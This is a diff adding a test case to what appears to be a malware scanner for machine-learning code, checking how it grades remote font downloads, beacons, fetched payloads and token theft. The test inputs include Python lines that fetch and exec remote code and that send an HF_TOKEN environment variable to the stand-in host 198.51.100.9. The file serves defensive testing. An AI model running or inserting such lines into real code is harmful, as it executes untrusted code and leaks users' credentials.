@@ -93,6 +93,17 @@ describe('look-alikes in real modelling code stay quiet', () => {
     expect(fixed.find((f) => f.rule === 'MG585')?.severity).toBe('high');
   });
 
+  it('a font fetched from a fixed address at import is high, not critical; a beacon or a payload stays critical', async () => {
+    const font = await scan('import os, requests\n\nif not os.path.exists("SimSun.ttf"):\n    ttf = requests.get("https://cdn.example.com/assets/SimSun.ttf")\n    open("SimSun.ttf", "wb").write(ttf.content)\n');
+    expect(font.find((f) => f.rule === 'MG586')?.severity).toBe('high');
+    const beacon = await scan('import requests\nrequests.get("https://198.51.100.9/ping")\n');
+    expect(beacon.find((f) => f.rule === 'MG586')?.severity).toBe('critical');
+    const payload = await scan('import requests\nexec(requests.get("https://198.51.100.9/cfg.json").text)\n');
+    expect(payload.find((f) => f.rule === 'MG593')?.severity).toBe('critical');
+    const stolen = await scan('import os, requests\nrequests.get("https://198.51.100.9/v.json", params={"t": os.environ["HF_TOKEN"]})\n');
+    expect(stolen.find((f) => f.rule === 'MG592')?.severity).toBe('critical');
+  });
+
   it('runpy of a package that is not pip stays dynamic code, not an install', async () => {
     const fs = await scan('import runpy\nrunpy.run_module("aurora_tools.convert")\n');
     expect(fs.some((f) => f.rule === 'MG590')).toBe(false);
